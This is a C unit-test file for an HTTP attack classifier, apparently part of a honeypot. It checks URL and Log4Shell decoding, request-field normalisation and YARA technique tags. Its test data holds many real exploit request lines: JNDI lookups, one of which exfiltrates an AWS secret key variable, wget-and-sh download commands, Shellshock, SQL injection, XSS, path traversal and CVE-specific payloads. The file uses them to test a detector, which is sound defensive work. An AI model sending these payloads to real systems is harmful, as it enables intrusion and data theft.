/* normalize.c - unit tests of the normalised fields rules see: the URL
 * and Log4Shell decoders, the fields of whole payloads, their caps, and
 * the http_* variables reaching YARA rules through classify. Run from
 * unit.c's main through test_normalize. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "classify.h"
#include "normalize.h"

void test_normalize(int *passed, int *failed);

static int *nz_passed, *nz_failed;

#define CHECK(cond, ...)                                                   \
	do {                                                               \
		if (cond) {                                                \
			(*nz_passed)++;                                    \
		} else {                                                   \
			(*nz_failed)++;                                    \
			printf("FAIL %s:%d: %s: ", __FILE__, __LINE__, #cond); \
			printf(__VA_ARGS__);                               \
			printf("\n");                                      \
		}                                                          \
	} while (0)

static char scratch[NORMALIZE_FIELD_MAX];

static void test_url(void)
{
	static const struct {
		const char *in;
		size_t plus_from;    /* (size_t)-1: none */
		const char *want;
	} cases[] = {
		{"/a%41%7e", -1, "/aA~"},
		{"%2541", -1, "A"},                      /* double */
		{"%252541", -1, "A"},                    /* triple */
		{"%25252541", -1, "%41"},                /* a fourth pass is not made */
		{"%u0024%u007Bjndi", -1, "${jndi"},      /* IIS %u */
		{"%u00e9", -1, "\xc3\xa9"},              /* to UTF-8 */
		{"/a+b?c+d%2B", 4, "/a+b?c d+"},         /* '+' in the query only; %2B stays '+' */
		{"%252B", 0, "+"},                       /* decoded '+' is not a space */
		{"%zz%4%", -1, "%zz%4%"},                /* invalid escapes stay */
		{"%%35%63", -1, "\\"},                   /* Nimda: %5c, then '\' */
		{"..%c0%af..%e0%80%afx", -1, "../../x"}, /* overlong '/' */
		{"%c1%9c", -1, "\\"},                    /* overlong '\' */
		{"..%c1%1c..", -1, "..\\.."},             /* IIS: c1 1c is also '\\' */
		{"\xc3\xa9", -1, "\xc3\xa9"},            /* real UTF-8 kept */
	};
	char out[NORMALIZE_FIELD_MAX];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t n = strlen(cases[i].in);
		size_t len = normalize_url(cases[i].in, n, cases[i].plus_from, out, sizeof(out),
		    scratch);
		CHECK(len == strlen(cases[i].want) && memcmp(out, cases[i].want, len) == 0,
		    "%s: got %.*s", cases[i].in, (int)len, out);
	}
	/* Output never outgrows the cap, whatever the input. */
	char big[3 * NORMALIZE_FIELD_MAX];
	for (size_t i = 0; i < sizeof(big); i += 6)
		memcpy(big + i, "%u0800", 6);
	size_t len = normalize_url(big, sizeof(big), 0, out, 100, scratch);
	CHECK(len <= 100, "capped at 100, got %zu", len);
	len = normalize_url("%00", 3, 0, out, sizeof(out), scratch);
	CHECK(len == 1 && out[0] == '\0', "NUL decoded (the field escapes it)");
}

static void test_log4j(void)
{
	static const struct {
		const char *in, *want;
	} cases[] = {
		{"${jndi:ldap://h/a}", "jndi:ldap://h/a"},
		{"${JnDi:ldap://h/a}", "jndi:ldap://h/a"},
		{"${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}", "jndi:rmi://h/a"},
		{"${${lower:J}${upper:n}di:dns://h}", "jndi:dns://h"},
		{"${${env:NOPE:-j}ndi${sys:x:-:}ldap://h}", "jndi:ldap://h"},
		{"${${date:'j'}${date:'n'yyyy}di:ldap://h}", "jndi:ldap://h"},
		{"${upper:\xc4\xb1}", "I"},              /* dotless i */
		{"${${upper:a}}", "${A}"},                /* a result is not a lookup */
		{"${${k8s:k5:-J}${lower:N}DI:x}", "jndi:x"},
		{"${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}}", "jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}"},
		{"${env:HOME}", "${env:HOME}"},          /* unknowable: as written */
		{"${:-x}", "x"},
		{"a}b${", "a}b${"},                      /* unbalanced: as written */
		{"no lookups", "no lookups"},
	};
	char out[NORMALIZE_FIELD_MAX];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t len = normalize_log4j(cases[i].in, strlen(cases[i].in), out, sizeof(out),
		    scratch);
		CHECK(len == strlen(cases[i].want) && memcmp(out, cases[i].want, len) == 0,
		    "%s: got %.*s", cases[i].in, (int)len, out);
	}
	/* Deeper than the cap: the outer "${" stay as written, inner ones
	 * resolve, and nothing runs past the buffer. */
	char deep[256] = "", want[256] = "";
	for (int i = 0; i < 20; i++)
		strcat(deep, "${::-");
	strcat(deep, "j");
	for (int i = 0; i < 20; i++)
		strcat(deep, "}");
	size_t len = normalize_log4j(deep, strlen(deep), out, sizeof(out), scratch);
	for (int i = 0; i < 20 - NORMALIZE_LOOKUP_DEPTH; i++)
		strcat(want, "${::-");
	strcat(want, "j");
	for (int i = 0; i < 20 - NORMALIZE_LOOKUP_DEPTH; i++)
		strcat(want, "}");
	CHECK(len == strlen(want) && memcmp(out, want, len) == 0, "deep: got %.*s", (int)len, out);
	len = normalize_log4j(deep, strlen(deep), out, 7, scratch);
	CHECK(len <= 7, "capped at 7, got %zu", len);
}

static struct normalize z;

static int fill(const char *payload)
{
	return normalize_payload(&z, (const uint8_t *)payload, strlen(payload));
}

static void test_fields(void)
{
	static const struct {
		const char *payload;
		int nreq;
		enum normalize_field f;
		const char *want;
	} cases[] = {
		{"GET /a%2541?q=1+2 HTTP/1.1\r\nHost: h\r\n\r\n", 1, NORMALIZE_TARGET, "/aA?q=1 2"},
		{"GET /a%2541?q=1+2 HTTP/1.1\r\n\r\n", 1, NORMALIZE_PATH, "/aA"},
		{"GET /a/./b\\..\\c HTTP/1.0\r\n\r\n", 1, NORMALIZE_PATH, "/a/b/../c"},
		{"GET / HTTP/1.0\r\n\r\n", 1, NORMALIZE_VERSION, "HTTP/1.0"},
		{"GET /x\r\n", 1, NORMALIZE_VERSION, ""},                       /* HTTP/0.9 */
		{"XFOC / HTTP/1.1\r\n\r\n", 1, NORMALIZE_METHOD, "XFOC"},
		{"GET /shell?cd+/tmp;wget+ http://h/a;sh+a HTTP/1.1\r\n\r\n", 1, NORMALIZE_TARGET,
		    "/shell?cd /tmp;wget  http://h/a;sh a"},                /* a space in the target */
		{"GET /a b\r\n", 1, NORMALIZE_TARGET, "/a b"},
		{"GET /a HTTP/1.1 x\r\n", 1, NORMALIZE_VERSION, ""},
		{"GET / HTTP/1.1\nUser-Agent: a%20b\nUser-Agent: c\n\n", 1, NORMALIZE_UA, "a b"},
		{"GET / HTTP/1.1\r\nHost:  h \r\nX-A: %24%7Bx\r\n\r\n", 1, NORMALIZE_HEADERS,
		    "Host: h\nX-A: ${x\n"},
		{"GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\n", 1, NORMALIZE_AUTH,
		    "user:pass"},
		{"GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXM\r\n\r\n", 1, NORMALIZE_AUTH,
		    "user:pas"},                                                /* no padding */
		{"GET / HTTP/1.1\r\nAuthorization: Basic !!!\r\n\r\n", 1, NORMALIZE_AUTH, ""},
		{"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		    "Content-Length: 11\r\n\r\na=b+c%3Bsh&", 1, NORMALIZE_BODY, "a=b c;sh&"},
		{"POST / HTTP/1.1\r\nContent-Type: text/plain\r\nContent-Length: 7\r\n\r\na+b\0%41",
		    1, NORMALIZE_BODY, "a+b"},                                  /* raw (strlen cut) */
		{"POST / HTTP/1.1\r\n\r\n<?php x", 1, NORMALIZE_BODY, "<?php x"}, /* no length */
		{"POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<a>&#36;&#x7B;jndi:x&#125; &lt;b&gt; &#; &#x; &#99999999; &zz; &amp</a>",
		    1, NORMALIZE_BODY, "<a>${jndi:x} <b> &#; &#x; &#99999999; &zz; &amp</a>"},
		{"POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
		    "{\"a\": \"\\u0024\\u007bjndi:ldap:\\/\\/h\\/a}\\\"\"}", 1, NORMALIZE_BODY,
		    "{\"a\": \"${jndi:ldap://h/a}\"\"}"},
		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n\r\nHEAD /3 HTTP/1.0\r\n\r\n", 3,
		    NORMALIZE_METHOD, "GET\nGET\nHEAD"},
		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, NORMALIZE_TARGET, "/1\n/2"},
		{"POST /a HTTP/1.1\r\nContent-Length: 4\r\n\r\nGET GET /b HTTP/1.1\r\n\r\n", 2,
		    NORMALIZE_TARGET, "/a\n/b"},                                /* body skipped */
		{"GET /${${::-j}ndi:ldap://h/a} HTTP/1.1\r\n\r\n", 1, NORMALIZE_LOG4J,
		    "jndi:ldap://h/a"},
		{"${jndi:ldap://h/m} / HTTP/1.1\r\nUser-Agent: %24%7Bjndi:rmi://h/u%7D\r\n"
		    "Authorization: Basic JHtqbmRpOmRuczovL2gvYn0=\r\n\r\n", 1, NORMALIZE_LOG4J,
		    "jndi:ldap://h/m\njndi:rmi://h/u\njndi:dns://h/b"},
		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://h\r\n\r\n", 1, NORMALIZE_LOG4J, ""},
		{"GET / HTTP/1.1\r\nX: ${jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo}\r\n\r\n",
		    1, NORMALIZE_LOG4J, "jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo\n"
		    "wget http://h/x|sh"},
		{"\x16\x03\x01\x02\x00\x01", 0, NORMALIZE_METHOD, ""},        /* TLS: not HTTP */
		{"hello world\r\n", 0, NORMALIZE_TARGET, ""},
		{"GET\r\n\r\n", 0, NORMALIZE_METHOD, ""},
		{"", 0, NORMALIZE_HEADERS, ""},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int n = fill(cases[i].payload);
		CHECK(n == cases[i].nreq, "case %zu: %d requests", i, n);
		CHECK(strcmp(z.field[cases[i].f], cases[i].want) == 0 &&
		    z.len[cases[i].f] == strlen(cases[i].want),
		    "case %zu: %s = \"%s\"", i, normalize_names[cases[i].f], z.field[cases[i].f]);
	}
	/* A NUL in a value is written %00: YARA sees C strings. */
	static const char nul[] = "GET /a%2500b HTTP/1.1\r\nX: a\0b\r\n\r\n";
	normalize_payload(&z, (const uint8_t *)nul, sizeof(nul) - 1);
	CHECK(strcmp(z.field[NORMALIZE_TARGET], "/a%00b") == 0, "target %s", z.field[NORMALIZE_TARGET]);
	CHECK(strcmp(z.field[NORMALIZE_HEADERS], "X: a%00b\n") == 0, "headers %s",
	    z.field[NORMALIZE_HEADERS]);
}

static void test_caps(void)
{
	size_t len = 256 * 1024;
	char *big = malloc(len + 1);

	if (!big)
		return;
	/* One huge target and header: each field cut at its cap. */
	memset(big, 'a', len);
	memcpy(big, "GET /", 5);
	memcpy(big + len / 2, " HTTP/1.1\r\nX: ", 14);
	memcpy(big + len - 4, "\r\n\r\n", 4);
	CHECK(normalize_payload(&z, (uint8_t *)big, len) == 1, "one request");
	for (int f = 0; f < NORMALIZE_FIELDS; f++)
		CHECK(z.len[f] < NORMALIZE_FIELD_MAX && strlen(z.field[f]) == z.len[f],
		    "%s: %zu", normalize_names[f], z.len[f]);
	CHECK(z.len[NORMALIZE_TARGET] >= NORMALIZE_FIELD_MAX - 3, "target cut at the cap");
	/* A lookup after the headers field is full still reaches http_log4j. */
	size_t o = 0;
	o += (size_t)sprintf(big + o, "GET / HTTP/1.1\r\n");
	for (int i = 0; i < 300; i++)
		o += (size_t)sprintf(big + o, "Cookie: c%d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", i);
	o += (size_t)sprintf(big + o, "X: ${${::-j}ndi:ldap://h/late}\r\n\r\n");
	normalize_payload(&z, (uint8_t *)big, o);
	CHECK(z.len[NORMALIZE_HEADERS] >= NORMALIZE_FIELD_MAX - 64, "headers full: %zu",
	    z.len[NORMALIZE_HEADERS]);
	CHECK(strcmp(z.field[NORMALIZE_LOG4J], "jndi:ldap://h/late") == 0, "late lookup: %s",
	    z.field[NORMALIZE_LOG4J]);
	/* Nested past the depth cap: the skeleton still shows the jndi. */
	o = (size_t)sprintf(big, "GET / HTTP/1.1\r\nX: ");
	for (int i = 0; i < 20; i++)
		o += (size_t)sprintf(big + o, "${::-");
	o += (size_t)sprintf(big + o, "${${::-j}${lower:N}di:ldap://h/deep}");
	for (int i = 0; i < 20; i++)
		o += (size_t)sprintf(big + o, "}");
	o += (size_t)sprintf(big + o, "\r\n\r\n");
	normalize_payload(&z, (uint8_t *)big, o);
	CHECK(strstr(z.field[NORMALIZE_LOG4J], "\njNdi:ldap://h/deep") != NULL, "deep: %s",
	    z.field[NORMALIZE_LOG4J]);
	/* Many requests: counted up to the cap. */
	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
	size_t n = len / (sizeof(req) - 1);
	for (size_t i = 0; i < n; i++)
		memcpy(big + i * (sizeof(req) - 1), req, sizeof(req) - 1);
	CHECK(normalize_payload(&z, (uint8_t *)big, n * (sizeof(req) - 1)) ==
	    NORMALIZE_REQUESTS_MAX, "requests capped: %d", z.nrequests);
	/* Lookups nested and repeated past every cap. */
	for (size_t i = 0; i + 2 <= len; i += 2)
		memcpy(big + i, i % 4 ? "}}" : "${", 2);
	memcpy(big, "GET /", 5);
	memcpy(big + len / 2, " HTTP/1.1\r\n\r\n", 13);
	normalize_payload(&z, (uint8_t *)big, len);
	CHECK(z.len[NORMALIZE_LOG4J] < NORMALIZE_FIELD_MAX, "log4j %zu", z.len[NORMALIZE_LOG4J]);
	free(big);
}

/* The http_* variables reach rules; each rule here needs its field. */
static void test_externals(void)
{
	static const char rules[] =
	    "rule v_method { condition: http_method == \"PROPFIND\" }\n"
	    "rule v_target { condition: http_target contains \"/shell?cd /tmp;wget\" }\n"
	    "rule v_path { condition: http_path == \"/../etc/passwd\" }\n"
	    "rule v_version { condition: http_version == \"HTTP/1.0\" }\n"
	    "rule v_ua { condition: http_ua icontains \"nikto\" }\n"
	    "rule v_headers { condition: http_headers contains \"X-Forwarded-For: ${\" }\n"
	    "rule v_auth { condition: http_auth == \"admin:admin\" }\n"
	    "rule v_body { condition: http_body contains \"cmd=id;uname\" }\n"
	    "rule v_log4j { condition: http_log4j startswith \"jndi:ldap://\" }\n"
	    "rule v_two { condition: http_nrequests == 2 }\n"
	    "rule v_raw { strings: $a = \"%2e%2e/\" condition: $a }\n";
	static const struct {
		const char *payload, *want;
	} cases[] = {
		{"PROPFIND / HTTP/1.1\r\n\r\n", "v_method"},
		{"GET /shell?cd+/tmp%3Bwget HTTP/1.1\r\n\r\n", "v_target"},
		{"GET /%2e%2e/etc/passwd HTTP/1.1\r\n\r\n", "v_path v_raw"},
		{"GET /x HTTP/1.0\r\n\r\n", "v_version"},
		{"GET / HTTP/1.1\r\nUser-Agent: Mozilla (Nikto/2.5)\r\n\r\n", "v_ua"},
		{"GET / HTTP/1.1\r\nX-Forwarded-For: %24%7Bx%7D\r\n\r\n", "v_headers"},
		{"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n", "v_auth"},
		{"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		    "Content-Length: 15\r\n\r\ncmd=id%3buname", "v_body"},
		{"GET / HTTP/1.1\r\nReferer: ${${lower:J}ndi:ldap://h/a}\r\n\r\n", "v_log4j"},
		{"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n", "v_two"},
		{"\x16\x03\x01 not http", ""},
		{"", ""},
	};
	char path[] = "/tmp/flypaper-unit-nz-XXXXXX.yar", err[256];
	int fd = mkstemps(path, 4);

	CHECK(fd >= 0 && write(fd, rules, sizeof(rules) - 1) == (ssize_t)sizeof(rules) - 1,
	    "rule file");
	if (fd < 0)
		return;
	close(fd);
	classify_test_set_lists_dir("/nonexistent");  /* only the rules above */
	struct classify *c = classify_open(path, NULL, err, sizeof(err));
	classify_test_set_lists_dir(NULL);
	unlink(path);
	CHECK(c != NULL, "rules compile with http_* variables: %s", err);
	if (!c)
		return;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct classify_result res;
		char got[512] = "";
		int n = classify_scan(c, (const uint8_t *)cases[i].payload,
		    strlen(cases[i].payload), &res);
		for (int k = 0; k < res.n; k++)
			snprintf(got + strlen(got), sizeof(got) - strlen(got), "%s%s",
			    k ? " " : "", res.m[k].rule);
		CHECK(n >= 0 && strcmp(got, cases[i].want) == 0, "case %zu: got \"%s\"", i, got);
	}
	classify_close(c);
}

/* rules/techniques.yar: each technique from a request written here, and
 * ordinary browsing tagged with nothing. */
static void test_techniques(void)
{
	static const struct {
		const char *payload, *want;
	} cases[] = {
		{"GET /item.php?id=1%27%20UNION%20SELECT%201,2,@@version-- HTTP/1.1\r\n\r\n", "sqli"},
		{"GET /?id=1'+or+'1'='1 HTTP/1.1\r\n\r\n", "sqli"},
		{"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		    "Content-Length: 33\r\n\r\nuser=a%27%3BWAITFOR+DELAY+%270:0:5", "sqli"},
		{"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", "xss"},
		{"GET / HTTP/1.1\r\nReferer: \"><img src=x onerror=prompt(1)>\r\n\r\n", "xss"},
		{"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n",
		    "rce"},
		{"GET /cgi-bin/x?a=$(id) HTTP/1.1\r\n\r\n", "rce"},
		{"GET /index.php?page=/etc/passwd HTTP/1.1\r\n\r\n", "lfi"},
		{"GET /?f=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n\r\n", "lfi"},
		{"GET /index.php?page=http://192.0.2.1/shell.txt? HTTP/1.1\r\n\r\n", "rfi"},
		{"GET /?include=https://192.0.2.1/c99.php HTTP/1.1\r\n\r\n", "rfi"},
		{"POST /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1\r\n"
		    "Content-Length: 20\r\n\r\n<?php echo md5(1);?>", "php-injection"},
		{"POST /api HTTP/1.1\r\nContent-Length: 12\r\n\r\nrO0ABXNyABdq", "java-deserialization"},
		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://192.0.2.1:1389/a\r\n\r\n", "jndi"},
		{"GET / HTTP/1.1\r\nX-Api-Version: ${${::-j}${lower:N}di:ldap://h/a}\r\n\r\n",
		    "cve-2021-44228,jndi"},
		{"GET /?x=%24%7Bjndi:dns://h/a%7D HTTP/1.1\r\n\r\n", "cve-2021-44228,jndi"},
		{"${jndi:ldap://h/a} / HTTP/1.1\r\n\r\n", "cve-2021-44228,jndi"},
		{"GET / HTTP/1.1\r\nAuthorization: Basic JHtqbmRpOmxkYXA6Ly9oL2F9OnA=\r\n\r\n",
		    "cve-2021-44228,jndi"},
		{"GET / HTTP/1.1\r\nX: ${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}}\r\n\r\n",
		    "cve-2021-44228,jndi,jndi-exfil"},
		{"GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; echo; /bin/bash -c id\r\n\r\n",
		    "cve-2014-6271,rce,shellshock"},
		{"GET /..%252f..%252f..%252fwinnt/system.ini HTTP/1.1\r\n\r\n", "path-traversal"},
		{"GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
		    "path-traversal,rce"},
		{"GET /download?file=..\\..\\boot.ini HTTP/1.1\r\n\r\n", "lfi,path-traversal"},
		{"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(#_memberAccess=x)}\r\n\r\n",
		    "cve-2017-5638"},
		{"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
		    "Content-Length: 13\r\n\r\n<?php echo 1;", "cve-2017-9841,php-injection"},
		{"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
		    "&vars[0]=md5&vars[1][]=1 HTTP/1.1\r\n\r\n", "cve-2018-20062,php-injection"},
		{"GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1\r\n\r\n",
		    "cve-2020-14882,path-traversal"},
		{"GET /console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle="
		    "com.tangosol.coherence.mvel2.sh.ShellSession(%22x%22) HTTP/1.1\r\n\r\n",
		    "cve-2020-14882,cve-2020-14883,path-traversal"},
		{"POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nContent-Length: 60\r\n\r\n"
		    "<java version=\"1\" class=\"java.beans.XMLDecoder\">", "cve-2017-10271"},
		{"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag", "cve-2018-10561"},
		{"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
		    "<NewStatusURL>$(/bin/busybox wget -g 1)</NewStatusURL>", "cve-2017-17215,rce"},
		{"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\n\r\n",
		    "cve-2021-41773,path-traversal,rce"},
		{"GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1\r\n\r\n",
		    "cve-2021-41773,lfi,path-traversal"},
		{"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\n\r\n", "cve-2019-19781,path-traversal"},
		{"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\n\r\n",
		    "cve-2018-13379,path-traversal"},
		{"GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1\r\n\r\n",
		    "cve-2022-22965"},
		{"GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1\r\n\r\n",
		    "cve-2022-26134"},
		{"POST /user/register?element_parents=account/mail/%23value&ajax_form=1 HTTP/1.1\r\n"
		    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\n"
		    "mail[%23post_render][]=exec&mail[a]=id", "cve-2018-7600"},
		{"GET / HTTP/1.1\r\nProxy: http://192.0.2.1:8080\r\n\r\n", "cve-2016-5385"},
		{"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1\r\n\r\n",
		    "cve-2023-1389,rce"},
		/* Ordinary browsing: nothing. */
		{"GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
		    "rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept: text/html,application/xhtml+xml,"
		    "*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n"
		    "Cookie: _ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9\r\n"
		    "Connection: keep-alive\r\n\r\n", ""},
		{"GET /search?q=select+a+shirt+and+order+by+size&page=2 HTTP/1.1\r\nHost: shop\r\n"
		    "Referer: https://shop.example/?utm_source=mail&utm_medium=email\r\n\r\n", ""},
		{"GET /static/js/app.min.js?v=3.2.1 HTTP/1.1\r\nHost: h\r\nIf-None-Match: \"abc\"\r\n\r\n", ""},
		{"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		    "Content-Length: 36\r\n\r\nusername=alice&password=p%40ss+word", ""},
		{"POST /api/v1/items HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n"
		    "{\"name\": \"lamp (red)\", \"price\": 12.5, \"q\": 1}", ""},
		{"GET /wiki/Special:Search?search=%E2%82%AC+and+%C3%A9&go=Go HTTP/1.1\r\n\r\n", ""},
		{"GET /robots.txt HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/7.88.1\r\n\r\n", ""},
		{"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n", ""},
		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", ""},
	};
	char err[256];
	struct classify *c = classify_open(FLYPAPER_RULES_DIR "/techniques.yar", NULL, err,
	    sizeof(err));

	CHECK(c != NULL, "techniques.yar compiles: %s", err);
	if (!c)
		return;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct classify_result res;
		int n = classify_scan(c, (const uint8_t *)cases[i].payload,
		    strlen(cases[i].payload), &res);
		CHECK(n == 0 && strcmp(res.tags, cases[i].want) == 0,
		    "case %zu: %d matches, tags \"%s\", want \"%s\"", i, n, res.tags, cases[i].want);
	}
	/* Raw bytes with NULs: a serialised object's magic. */
	static const char ser[] = "POST /api HTTP/1.1\r\nContent-Length: 8\r\n\r\n"
	    "\xac\xed\x00\x05sr\x00\x17";
	struct classify_result res;
	classify_scan(c, (const uint8_t *)ser, sizeof(ser) - 1, &res);
	CHECK(strcmp(res.tags, "java-deserialization") == 0, "raw: tags \"%s\"", res.tags);
	classify_close(c);
}

void test_normalize(int *passed, int *failed)
{
	nz_passed = passed;
	nz_failed = failed;
	test_url();
	test_log4j();
	test_fields();
	test_caps();
	test_externals();
	test_techniques();
}
